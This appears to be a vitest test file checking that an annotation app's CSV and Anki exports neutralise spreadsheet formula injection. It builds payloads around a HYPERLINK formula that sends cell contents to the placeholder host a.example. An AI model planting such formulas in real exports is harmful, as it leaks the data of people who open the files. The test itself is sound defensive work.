/**
 * No cell of a file exported for a spreadsheet begins with something that the spreadsheet would
 * run, whichever separator it uses.
 */
import Papa from "papaparse";
import { describe, expect, test } from "vitest";
import type { Annotation } from "@/lib/annotation/model";
import { toAnki } from "@/lib/exchange/formats/anki";

import { toCsv } from "@/lib/exchange/formats/csv";
import { noteWith, selection } from "@/tests/cases/exchange-notes";
import { textOf } from "./written";
import { fromCsv } from "../cases/exchange";

const SIGNS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠"];
const RUN = `HYPERLINK("http://a.example?"&A1)`;
const FORMULAS = SIGNS.flatMap((it) => {
  const formula = it + RUN;
  return [
    formula,
    `a;${formula}`,
    `a\t${formula}`,
    `a\n${formula}`,
    `a",${formula}`,
    `';${formula}`,
  ];
});

/** A note in which every text is a formula. */
const noteOf = (formula: string): Annotation => ({
  ...selection(formula),
  body: { type: "TextualBody", value: formula, format: "text/plain" },
  tags: [formula],
});
const context = (title: string) => ({
  nameOf: () => ({ title, kind: "page" as const, text: null }),
});

/**
 * The cells that a spreadsheet makes of a text. `quotes` says whether quotation marks count as in
 * RFC 4180. They do not if a line began without one.
 */
const cellsOf = (text: string, delimiter: string, quotes: boolean): string[] =>
  Papa.parse<string[]>(text.replace("\ufeff", ""), {
    delimiter,
    quoteChar: quotes ? '"' : "\u0000",
  }).data.flat();
const isRun = (cell: string): boolean => /^["\s]*[=+\-@＝＋－＠]/u.test(cell);

describe("a CSV export", () => {
  test.each(FORMULAS)("contains %j as text", (formula) => {
    const csv = textOf(toCsv([noteOf(formula)], context(formula)));
    for (const cell of cellsOf(csv, ",", true)) expect(isRun(cell), cell).toBe(false);
    for (const delimiter of [";", "\t"]) {
      for (const cell of cellsOf(csv, delimiter, false)) {
        // After a comma or a quotation mark, the text is in the middle of a cell.
        expect(isRun(cell.replace(/^"/u, "'")), cell).toBe(false);
      }
    }
    const [row] = fromCsv(csv);
    expect(row).toMatchObject({ note: formula, quote: formula, about: formula });
  });

  test("written without care does run formulas (control)", () => {
    const naive = FORMULAS.map((it) => Papa.unparse([["id", it]]));
    expect(naive.filter((it) => cellsOf(it, ",", true).some(isRun)).length).toBe(SIGNS.length);
    expect(naive.filter((it) => cellsOf(it, ";", false).some(isRun)).length).toBeGreaterThan(
      SIGNS.length,
    );
  });
});

test.each(SIGNS)("for Anki has no field that begins with %j", (sign) => {
  const lines = textOf(toAnki([noteOf(sign + RUN), noteWith(sign + RUN)], context(sign + RUN)));
  const fields = lines
    .split("\n")
    .filter((it) => !it.startsWith("#") && it !== "")
    .flatMap((it) => it.split("\t").slice(0, 3));
  expect(fields.length).toBe(6);
  expect(fields.filter(isRun)).toEqual([]);
});
